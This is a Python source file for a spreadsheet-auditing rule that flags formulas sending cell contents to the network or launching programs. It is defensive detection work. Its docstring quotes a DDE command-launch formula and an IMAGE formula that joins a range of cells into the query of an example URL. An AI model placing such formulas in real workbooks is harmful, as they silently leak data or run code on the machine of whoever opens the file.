"""The rule `outward-formula`."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from typing import Final

import numpy as np
import numpy.typing as npt

from tickmark.audit.link_cells import link_cells, linked_workbooks
from tickmark.audit.outward_call import OutwardCall, Reach, host_of, outward_calls
from tickmark.audit.quoting import quoted
from tickmark.audit.rule import Facts, rule
from tickmark.audit.wording import addresses, counted, listed
from tickmark.model.finding import Finding, Severity, Tier
from tickmark.structure.formulas import SheetFormulas
from tickmark.structure.links import LinkState, OtherWorkbook
from tickmark.structure.outside_formulas import OutsideFormula, outside_formulas
from tickmark.structure.rectangles import rectangles

CODE = "outward-formula"
LONGEST_FORMULA: Final = 200
MOST_CELLS: Final = 5

_SEVERITIES: Final = {
    Reach.OPENS: Severity.INFO,
    Reach.FEEDS: Severity.LOW,
    Reach.ASKS: Severity.MEDIUM,
    Reach.CLICKS: Severity.MEDIUM,
    Reach.SENDS: Severity.HIGH,
    Reach.RUNS: Severity.HIGH,
}
_MORE: Final = frozenset({Reach.OPENS, Reach.FEEDS})
_CONFIDENCES: Final = {
    Reach.OPENS: 0.3,
    Reach.FEEDS: 0.5,
    Reach.ASKS: 0.7,
    Reach.CLICKS: 0.6,
    Reach.SENDS: 0.9,
    Reach.RUNS: 0.95,
}
_WORDS: Final = {
    Reach.OPENS: "holds a link to another place",
    Reach.FEEDS: "takes data from another program or service",
    Reach.ASKS: "fetches something from outside of the workbook when it is calculated",
    Reach.CLICKS: "puts what cells hold into the address of a link",
    Reach.SENDS: "calls an address that is made from cells, so that their content goes out",
    Reach.RUNS: "starts code or another program",
}
_FIXES: Final = {
    Reach.OPENS: "Check where the link leads.",
    Reach.FEEDS: "Say on the sheet where the data comes from, and as of when.",
    Reach.ASKS: "Replace the formula by its value, with source and date, unless it is needed.",
    Reach.CLICKS: "Write the address without the content of cells, or remove the link.",
    Reach.SENDS: "Remove the formula; do not recalculate the workbook before that.",
    Reach.RUNS: "Remove the formula, and do not let Excel update or enable anything before that.",
}


@rule(CODE, severity=Severity.HIGH)
def outward_formula(facts: Facts) -> Iterator[Finding]:
    r"""A formula reaches the network or another program.

    What it finds:
        Formulas that start code or other programs (CALL, REGISTER.ID, DDE as in `cmd|'/c calc'!A1`)
        and those that call an address made from cells, by WEBSERVICE, IMAGE or the IMPORT functions
        of Google Sheets, or with whole ranges joined into a HYPERLINK (high); formulas that fetch
        something from a fixed address, Python in Excel, SQL.REQUEST, a HYPERLINK with cells in the
        query of its address, and links to workbooks on web servers (medium). With `--tier more`
        also RTD, STOCKHISTORY and CUBE functions, constant links and workbooks on file servers
        (low and info). Defined names, validations and conditional formats are searched as well.

    Why it matters:
        What cells hold can leave the house without anybody noticing, as soon as the workbook is
        calculated or a link is clicked; or a program runs on the machine of whoever opens it.

    Example:
        `=IMAGE("https://example.org/p?d="&TEXTJOIN(",",TRUE,B2:B40))`

    Fix:
        Remove the formula, or replace it by its value with source and date.

    Source:
        The functions of Excel and Google Sheets that are documented to reach outside, and public
        reports of data taken out of workbooks by them.

    Known false alarms:
        Dashboards that load pictures, and links with a search in their address. Nothing is called
        and no address is looked up. Links to places inside the workbook, and links whose address
        is only a cell, are passed over.
    """
    for own in facts.formulas.sheets:
        yield from _in_cells(own)
    yield from _outside(facts)
    for other in linked_workbooks(facts.formulas):
        if other.state is LinkState.REMOTE:
            yield _linked(other)


@dataclass(frozen=True, slots=True, eq=False)
class _Found:
    """The cells of one template with a call."""

    call: OutwardCall
    template: int
    positions: npt.NDArray[np.intp]


def _in_cells(own: SheetFormulas) -> Iterator[Finding]:
    groups: dict[tuple[str, Reach], list[_Found]] = {}
    for number, template in enumerate(own.templates):
        for call in dict.fromkeys(outward_calls(template.text)):
            found = _Found(call, number, own.cells_of(number))
            groups.setdefault((call.function, call.reach), []).append(found)
    cells = own.sheet.cells
    for group in groups.values():
        at = np.unique(np.concatenate([found.positions for found in group]))
        if not len(at):
            continue
        areas = rectangles(own.sheet.name, cells.rows[at], cells.columns[at])
        template = own.templates[int(own.template_of[at[0]])]
        formula = template.text_at(*cells.place(at[0]))
        calls = [found.call for found in group]
        place = _Place(counted(len(at), "formula"), own.sheet.name, addresses(areas))
        yield _finding(calls, place, formula, template.r1c1)


def _outside(facts: Facts) -> Iterator[Finding]:
    groups: dict[tuple[str, str, str, Reach], list[tuple[OutwardCall, OutsideFormula]]] = {}
    for one in outside_formulas(facts.workbook):
        for call in dict.fromkeys(outward_calls(one.text)):
            key = one.sheet, one.holder.value, call.function, call.reach
            groups.setdefault(key, []).append((call, one))
    for (sheet, holder, _, _), group in groups.items():
        calls = [call for call, _ in group]
        first = group[0][1]
        areas = list(dict.fromkeys(area for _, one in group for area in one.ranges))
        subject = counted(len(group), holder)
        if first.name:
            subject = f"the {holder} {quoted(first.name)}"
            subject += f" and {len(group) - 1:,} more" if len(group) > 1 else ""
        yield _finding(calls, _Place(subject, sheet, addresses(areas)), first.text, first.text)


@dataclass(frozen=True, slots=True)
class _Place:
    """What holds the calls, in words, and where."""

    words: str
    sheet: str
    ranges: tuple[str, ...]


def _finding(calls: Sequence[OutwardCall], place: _Place, formula: str, key: str) -> Finding:
    first = calls[0]
    ranges = place.ranges
    hosts = list(dict.fromkeys(call.host for call in calls if call.host))
    where = f" ({listed(ranges)})" if ranges else ""
    to = f" ({listed([quoted(host) for host in hosts], most=2)})" if hosts else ""
    evidence = {"function": first.function, "found": "=" + formula[:LONGEST_FORMULA]}
    if hosts:
        evidence["host"] = listed(hosts, most=MOST_CELLS)
    return Finding(
        rule=CODE,
        severity=_SEVERITIES[first.reach],
        message=f"{first.function} in {place.words}{where} {_WORDS[first.reach]}{to}.",
        sheet=place.sheet,
        ranges=ranges,
        evidence=evidence,
        fix=_FIXES[first.reach],
        confidence=_CONFIDENCES[first.reach],
        tier=Tier.MORE if first.reach in _MORE else Tier.DEFAULT,
        key=f"{first.function} {key}",
    )


def _linked(other: OtherWorkbook) -> Finding:
    """A link to a workbook on a server, or to a running program (DDE)."""
    count = other.count
    users = f"{counted(count, 'formula')} {'takes' if count == 1 else 'take'} values from"
    if not count:
        users = "The workbook has a link to"
    runs, web = other.kind == "dde", host_of(other.target).lower().startswith(("http", "ftp"))
    reach = Reach.RUNS if runs else Reach.ASKS if web else Reach.OPENS
    what = "another program (DDE)" if runs else "a workbook on a server"
    sheet = other.uses[0].sheet if len(other.uses) == 1 else ""
    evidence = {"target": other.target[:LONGEST_FORMULA]}
    if other.uses:
        evidence |= {"found": other.uses[0].formula, "formulas": str(count)}
        evidence["cells"] = link_cells([other])
    return Finding(
        rule=CODE,
        severity=_SEVERITIES[reach],
        message=f"{users} {what}, {other.target}.",
        sheet=sheet,
        evidence=evidence,
        fix="Break the link under Data, Edit Links, or check that the place can be trusted."
        if not runs
        else _FIXES[reach],
        confidence=_CONFIDENCES[reach],
        tier=Tier.MORE if reach in _MORE else Tier.DEFAULT,
        key=other.target,
    )
